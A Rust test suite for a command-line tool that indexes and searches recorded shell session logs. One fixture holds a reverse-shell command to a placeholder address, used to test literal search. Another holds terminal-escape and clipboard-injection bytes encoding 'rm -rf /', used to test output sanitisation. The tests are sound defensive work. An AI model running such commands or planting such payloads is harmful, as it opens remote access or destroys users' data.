//! The commands a user types, without AWS.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::program::{Ran, ask, fixture_objects, fixtures, run, shelltrail, stored_sessions};

fn index_of(source: &Path) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("index");
    backfill(source, &index).exits(0);
    (dir, index)
}

fn backfill(source: &Path, index: &Path) -> Ran {
    run(shelltrail().arg("backfill").arg(source).arg("--index").arg(index))
}

#[test]
fn a_folder_is_indexed_once_and_searched() {
    let (_dir, index) = index_of(&fixtures().join("bucket"));
    let objects = fixture_objects();
    assert_eq!(stored_sessions(&index).len(), objects.len());

    let again = backfill(&fixtures().join("bucket"), &index).exits(0);
    assert!(again.err.contains(&format!("{} already indexed", objects.len())), "{}", again.err);
    assert_eq!(stored_sessions(&index).len(), objects.len());

    let hits = ask(&index, "search", &["sudo -i", "--format", "jsonl"]).exits(0).json();
    assert!(!hits.is_empty());
    for hit in &hits {
        assert!(
            hit["command"].as_str().is_some_and(|c| c.contains("sudo -i"))
                || hit["output"].as_str().is_some()
        );
        for field in
            ["account", "region", "session", "principal", "seq", "output", "prompt", "status", "confidence"]
        {
            assert!(hit.get(field).is_some(), "{field} in {hit}");
        }
        for field in ["bucket", "key", "version", "etag"] {
            assert!(hit["object"].get(field).is_some(), "{field} in {hit}");
        }
        assert!(hit["span"]["start"].as_u64() < hit["span"]["end"].as_u64());
    }
    let same = ask(&index, "search", &["sudo -i", "--format", "jsonl"]).exits(0);
    assert_eq!(same.json(), hits, "the same query gives the same answer");

    let account = ["sudo", "--format", "jsonl", "--account", "111122223333,444455556666"];
    for hit in ask(&index, "search", &account).exits(0).json() {
        assert!(["111122223333", "444455556666"].contains(&hit["account"].as_str().unwrap()), "{hit}");
    }
    ask(&index, "search", &["no such text anywhere"]).exits(1);
    ask(&index, "search", &["sudo", "--account", "999999999999"]).exits(1);
}

/// What `search` finds must be what a scan of `show` finds, for every command of every fixture.
#[test]
fn every_command_is_found_and_shown() {
    let (_dir, index) = index_of(&fixtures().join("bucket"));
    let mut commands = 0;
    for session in stored_sessions(&index) {
        let records = ask(&index, "show", &["--format", "jsonl", "--", &session]).exits(0).json();
        for record in records.iter().step_by(5) {
            let Some(command) = record["command"].as_str().filter(|c| !c.is_empty() && !c.starts_with('-'))
            else {
                continue;
            };
            commands += 1;
            // Upper case makes the query exact, lower case a superset: either way the record is among the hits.
            let hits =
                ask(&index, "search", &["--format", "jsonl", "--limit", "10000", "--", command]).exits(0);
            let found = hits
                .json()
                .iter()
                .any(|hit| hit["session"] == record["session"] && hit["seq"] == record["seq"]);
            assert!(found, "{command:?} of {session}");
        }
    }
    assert!(commands > 50, "{commands}");
}

#[test]
fn parse_show_and_search_print_the_same_record() {
    let (_dir, index) = index_of(&fixtures().join("bucket"));
    let (key, path) =
        fixture_objects().into_iter().find(|(key, _)| key.contains("jdoe@example.com-0f68")).unwrap();
    let session = key.rsplit('/').next().unwrap().trim_end_matches(".log");
    let parsed = run(shelltrail().arg("parse").arg(&path)).exits(0).json();
    let shown = ask(&index, "show", &[session, "--format", "jsonl", "--reveal"]).exits(0).json();
    assert_eq!(parsed.len(), shown.len());
    for (parsed, shown) in parsed.iter().zip(&shown) {
        for field in
            ["seq", "command", "output", "prompt", "status", "confidence", "boundary", "ended_at", "span"]
        {
            assert_eq!(parsed[field], shown[field], "{field}");
        }
    }
    assert_eq!(parsed[0]["session"], session);
    let around =
        ask(&index, "show", &[session, "--around", "3", "-C", "1", "--format", "jsonl"]).exits(0).json();
    assert_eq!(around.iter().map(|r| r["seq"].as_u64().unwrap()).collect::<Vec<_>>(), [2, 3, 4]);
    ask(&index, "show", &["no-such-session"]).exits(1);
    ask(&index, "show", &[session, "--around", "99999"]).exits(1);
}

#[test]
fn context_prints_each_neighbour_once() {
    let (_dir, index) = index_of(&fixtures().join("bucket"));
    let plain = ask(&index, "search", &["cat", "--limit", "1000", "--format", "jsonl"]).exits(0).json();
    let with_context =
        ask(&index, "search", &["cat", "--limit", "1000", "-C", "2", "--format", "jsonl"]).exits(0);
    let lines = with_context.json();
    let is_context = |line: &&Value| line.get("neighbour") == Some(&Value::Bool(true));
    assert_eq!(lines.iter().filter(|line| !is_context(line)).count(), plain.len());
    assert!(lines.iter().filter(is_context).count() > 0);
    let mut seen = std::collections::HashSet::new();
    for line in &lines {
        assert!(seen.insert((line["transcript"].clone(), line["seq"].clone())), "twice: {line}");
    }
}

#[test]
fn literals_with_punctuation_and_long_tokens_are_found() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("bucket/ssm/111122223333");
    fs::create_dir_all(&folder).unwrap();
    let long = "QUJDREVG0".repeat(34);
    let body = format!(
        "$ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\r\r\n$ make 2>&1 | tee x\r\r\nok {long} ok\r\r\n$ exit\r\r\n"
    );
    fs::write(folder.join("mallory-0123456789abcdef0.log"), body).unwrap();
    let index = dir.path().join("index");
    backfill(&dir.path().join("bucket"), &index).exits(0);
    for query in
        [">& /dev/tcp/10.0.0.1/4444", "2>&1", &long, "ev/tc", "\"| tee\"", "0.0.1/44", "&", "DREVG0QUJ"]
    {
        let hits = ask(&index, "search", &["--format", "jsonl", "--", query]).exits(0).json();
        assert!(!hits.is_empty(), "{query}");
    }
    ask(&index, "search", &["--", "BASH -I"]).exits(1);
    ask(&index, "search", &["--", "TEE x"]).exits(1);
}

#[test]
fn a_file_outside_a_layout_names_no_account() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("evening walk.log");
    fs::write(&file, "$ id\r\r\nuid=0\r\r\n$ ").unwrap();
    let records =
        run(shelltrail().current_dir(dir.path()).arg("parse").arg("evening walk.log")).exits(0).json();
    assert_eq!(records[0]["session"], "evening walk");
    assert_eq!((&records[0]["account"], &records[0]["ended_at"]), (&Value::Null, &Value::Null));
    assert_eq!(records[0]["object"]["bucket"], Value::Null);
}

#[test]
fn nothing_hostile_reaches_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("bucket/111122223333");
    fs::create_dir_all(&folder).unwrap();
    let body =
        b"$ ok\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x1bPq\x1b\\ \xc2\x9b2J \xe2\x80\xaeevil\xe2\x80\x8b\r\r\n\
                out \x1b]52;c;cm0gLXJmIC8K\x07put \x9b2J\x7f\r\r\n$ ";
    fs::write(folder.join("ev\x1b]0;x\x07il\u{202e}-0123456789abcdef0.log"), body).unwrap();
    let index = dir.path().join("index");
    let mut printed = vec![backfill(&dir.path().join("bucket"), &index).exits(0)];
    let session = stored_sessions(&index).remove(0);
    printed.push(ask(&index, "search", &["put"]).exits(0));
    printed.push(ask(&index, "search", &["put", "--format", "jsonl"]).exits(0));
    printed.push(ask(&index, "show", &["--", &session]).exits(0));
    printed.push(ask(&index, "show", &["--format", "jsonl", "--", &session]).exits(0));
    printed.push(ask(&index, "sessions", &[]).exits(0));
    printed.push(ask(&index, "status", &[]).exits(0));
    printed.push(ask(&index, "show", &["--", "\x1b[2J"]).exits(1));
    printed.push(ask(&index, "show", &["--\x1b[2J"]).exits(2));
    for text in printed.iter().flat_map(|ran| [&ran.out, &ran.err]) {
        let hostile = |c: char| (c.is_control() && c != '\n') || ['\u{202e}', '\u{200b}'].contains(&c);
        assert!(!text.contains(hostile), "{text:?}");
    }
}

#[test]
fn mistakes_are_told_before_anything_is_read() {
    let (_dir, index) = index_of(&fixtures().join("bucket"));
    for arguments in [
        &["x", "--since", "yesterdayy"][..],
        &["x", "--account", "12345"],
        &["x", "--since", "2026-01-02", "--until", "2026-01-01"],
        &[""],
        &["x", "--limit", "0"],
        &["x", "--no-such-flag"],
    ] {
        let ran = ask(&index, "search", arguments).exits(2);
        assert!(ran.out.is_empty() && !ran.err.is_empty(), "{arguments:?}");
    }
    let nowhere = ask(Path::new("no/such/index"), "search", &["x"]).exits(2);
    assert!(nowhere.err.contains("there is no index"), "{}", nowhere.err);
    let none = run(shelltrail().args(["search", "x"])).exits(2);
    assert!(none.err.contains("--index"), "{}", none.err);
    run(shelltrail().args(["backfill", "no/such/folder", "--index"]).arg(&index)).exits(2);
}

#[test]
fn what_could_not_be_indexed_makes_answers_incomplete() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("bucket/111122223333");
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("good-0123456789abcdef0.log"), "$ id\r\r\n").unwrap();
    // A gzip header, and then nothing that could be inflated.
    fs::write(
        folder.join("bad-0123456789abcdef1.log"),
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03garbage!garbage!",
    )
    .unwrap();
    let index = dir.path().join("index");
    let ran = backfill(&dir.path().join("bucket"), &index).exits(3);
    assert!(ran.err.contains("gzip-corrupt"), "{}", ran.err);
    let status = ask(&index, "status", &["--format", "jsonl"]).exits(0).json();
    assert_eq!(status[0]["failures"]["gzip-corrupt"], 1);
    assert_eq!(status[0]["sessions"], 1);
    let found = ask(&index, "search", &["id"]).exits(3);
    assert!(found.out.contains("id") && found.err.contains("1 object in scope is not indexed"), "{found:?}");
    ask(&index, "search", &["nothing here"]).exits(3);
    ask(&index, "search", &["nothing here", "--account", "444455556666"]).exits(1);
}
